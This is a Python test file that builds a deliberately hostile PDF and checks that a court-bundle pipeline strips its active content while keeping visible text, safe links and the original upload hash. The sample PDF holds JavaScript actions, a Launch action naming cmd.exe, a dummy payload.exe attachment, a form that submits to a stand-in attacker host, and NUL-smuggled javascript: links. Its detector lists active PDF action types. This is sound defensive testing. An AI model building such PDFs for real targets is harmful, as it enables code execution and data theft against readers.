"""An uploaded PDF's active content stays out of the court bundle: its pages come without
JavaScript, actions, embedded files, form fields or rich media; what they show (a filled field's
value, an https link) stays, and the manifest still hashes the upload as filed."""

from __future__ import annotations

import hashlib
import io
import json
import re
import subprocess
from pathlib import Path

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests import helpers

JS = "app.alert('pwned')"
FIELD_VALUE = "Filed by the owner"


def _link(pdf: pikepdf.Pdf, rect: list[int], uri: str) -> pikepdf.Object:
    return pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Link,
            Rect=Array(rect),
            Border=Array([0, 0, 0]),
            A=Dictionary(S=Name.URI, URI=String(uri)),
        )
    )


def hostile_pdf() -> bytes:
    """One page with every kind of active content a viewer might run or open."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(612, 792))
    page = pdf.pages[0]
    font = pdf.make_indirect(
        Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    )
    page.obj.Resources = Dictionary(Font=Dictionary(Helv=font))
    page.obj.Contents = pdf.make_stream(b"BT /Helv 14 Tf 72 720 Td (Letter from the owner) Tj ET")
    js = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String(JS)))
    page.obj.AA = Dictionary(O=js, C=js)
    pdf.Root.OpenAction = pdf.make_indirect(
        Dictionary(S=Name.Launch, F=String("calc.exe"), Win=Dictionary(F=String("cmd.exe")))
    )
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("start"), js])),
    )
    bad_link = _link(pdf, [72, 600, 300, 620], "javascript:app.alert(1)")
    good_link = _link(pdf, [72, 560, 300, 580], "https://example.org/permit/1418")
    remote = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Link,
            Rect=Array([72, 520, 300, 540]),
            A=Dictionary(S=Name.GoToR, F=String("other.pdf"), D=Array([0, Name.Fit])),
        )
    )
    payload = pikepdf.AttachedFileSpec(pdf, b"MZ not really a program", filename="payload.exe")
    pdf.attachments["payload.exe"] = payload
    attach_annot = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.FileAttachment,
            Rect=Array([400, 700, 420, 720]),
            FS=payload.obj,
            Contents=String("open me"),
        )
    )
    widget = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("owner"),
            V=String(FIELD_VALUE),
            DA=String("/Helv 12 Tf 0 g"),
            Rect=Array([72, 400, 400, 430]),
            F=4,
            P=page.obj,
            AA=Dictionary(K=Dictionary(S=Name.JavaScript, JS=String(JS))),
        )
    )
    submit = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Btn,
            Ff=65536,
            T=String("send"),
            Rect=Array([72, 350, 200, 380]),
            F=4,
            P=page.obj,
            A=Dictionary(S=Name.SubmitForm, F=String("https://attacker.invalid/collect")),
        )
    )
    pdf.Root.AcroForm = Dictionary(
        Fields=Array([widget, submit]),
        NeedAppearances=True,
        DA=String("/Helv 12 Tf 0 g"),
        DR=Dictionary(Font=Dictionary(Helv=font)),
    )
    # A web link that still carries JavaScript as its "previous action" (/PA, a direct
    # dictionary: found by a tester's walkthrough), and a web address hiding a NUL.
    shadowed = _link(pdf, [72, 480, 300, 500], "https://example.org/shadowed")
    shadowed.PA = Dictionary(S=Name.JavaScript, JS=String(JS))
    nul = _link(pdf, [72, 440, 300, 460], "http://evil.example/\x00javascript:app.alert(2)")
    page.obj.Annots = Array(
        [bad_link, good_link, remote, attach_annot, widget, submit, shadowed, nul]
    )
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


ACTIVE_KINDS = {
    "/JavaScript",
    "/Launch",
    "/GoToR",
    "/GoToE",
    "/SubmitForm",
    "/ImportData",
    "/RichMediaExecute",
}


def _every_dictionary(volume: pikepdf.Pdf):
    """Every dictionary: each indirect object's and every one nested in it directly."""
    for top in volume.objects:
        stack = [top]
        while stack:
            obj = stack.pop()
            if isinstance(obj, Dictionary):
                yield obj
                children = list(obj.values())
            elif isinstance(obj, Array):
                children = list(obj)
            else:
                continue
            stack += [
                c for c in children if isinstance(c, Dictionary | Array) and not c.is_indirect
            ]


def _active(volume: pikepdf.Pdf) -> list[str]:
    """Everything in the volume that acts or carries a file, walking every dictionary."""
    found = []
    for obj in _every_dictionary(volume):
        for key in ("/AA", "/OpenAction", "/JS", "/JavaScript", "/AcroForm", "/XFA", "/PA"):
            if key in obj:
                found.append(key)
        kind = obj.get("/S")
        # (One volume: none of its own links goes to another volume's file.)
        if kind is not None and str(kind) in ACTIVE_KINDS and obj.get("/Type") != Name.StructElem:
            found.append(str(kind))
        uri = str(obj.get("/URI", "")) if kind == Name.URI else ""
        if kind == Name.URI and not re.fullmatch(r"https?://[\x21-\x7e]+", uri):
            found.append(f"URI {uri!r}")
        if obj.get("/Subtype") in (
            Name.FileAttachment,
            Name.Widget,
            Name.RichMedia,
            Name.Screen,
            Name.Movie,
            Name.Sound,
        ):
            found.append(str(obj.get("/Subtype")))
        if "/EF" in obj and str(obj.get("/UF", obj.get("/F", ""))) != "manifest.json":
            found.append(f"embedded file {obj.get('/F')}")
    return found


def test_an_uploads_active_content_stays_out_of_the_bundle(
    client, officer, attorney, open_case, work, settings, tmp_path: Path
) -> None:
    data = hostile_pdf()
    with pikepdf.open(io.BytesIO(data)) as before:  # the test's PDF is as hostile as it says
        assert len(_active(before)) >= 10, _active(before)
        assert "/PA" in _active(before)
    case = open_case()["case_number"]
    r = helpers.upload(
        client, officer.headers, case, data, "owner-letter.pdf", kind="correspondence"
    )
    assert r.status_code == 201, r.json
    upload_sha = r.json["sha256"] if "sha256" in r.json else hashlib.sha256(data).hexdigest()
    assert upload_sha == hashlib.sha256(data).hexdigest()

    r = client.post(f"/api/cases/{case}/bundles", headers=attorney.headers, json={})
    assert r.status_code == 202, r.json
    work()
    b = client.get(f"/api/bundles/{r.json['id']}", headers=attorney.headers).json
    assert b["status"] == "done", b["error"]
    path = tmp_path / "volume.pdf"
    path.write_bytes(client.get(b["volumes"][0]["pdf_url"], headers=attorney.headers).data)

    check = subprocess.run(["qpdf", "--check", str(path)], capture_output=True, text=True)
    assert check.returncode == 0, check.stdout + check.stderr
    with pikepdf.open(path) as volume:
        assert _active(volume) == []
        assert "/Names" not in volume.Root or "/JavaScript" not in volume.Root.Names
        assert list(volume.attachments) == ["manifest.json"]
        uris = [
            str(annot.A.URI)
            for page in volume.pages
            for annot in page.obj.get("/Annots", [])
            if "/A" in annot and annot.A.get("/S") == Name.URI
        ]
        assert "https://example.org/permit/1418" in uris
        manifest = json.loads(volume.attachments["manifest.json"].get_file().read_bytes())
    # What the page showed stays: its text and the filled field's value, now drawn on it.
    text = subprocess.run(
        ["pdftotext", "-layout", str(path), "-"], capture_output=True, text=True, check=True
    ).stdout
    assert "Letter from the owner" in text and FIELD_VALUE in text
    # The manifest hashes the upload as filed, not the copy made inert.
    [row] = [
        f
        for f in manifest["files"]
        if f.get("media_type") == "application/pdf" and f["record"].startswith("attachment")
    ]
    assert row["sha256"] == hashlib.sha256(data).hexdigest()
    stored = settings.store_dir / "objects" / row["sha256"][:2] / row["sha256"][2:4]
    assert hashlib.sha256((stored / row["sha256"]).read_bytes()).hexdigest() == row["sha256"]
